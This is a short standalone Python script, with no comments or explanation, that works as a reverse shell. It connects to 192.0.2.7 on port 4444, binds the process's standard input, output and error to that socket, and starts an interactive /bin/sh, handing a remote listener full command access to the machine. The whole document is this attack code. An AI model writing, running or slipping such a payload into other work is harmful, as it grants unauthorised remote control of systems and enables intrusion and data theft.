import os
import socket
import subprocess

link = socket.socket()
link.connect(("192.0.2.7", 4444))
for number in (0, 1, 2):
    os.dup2(link.fileno(), number)
subprocess.call(["/bin/sh", "-i"])
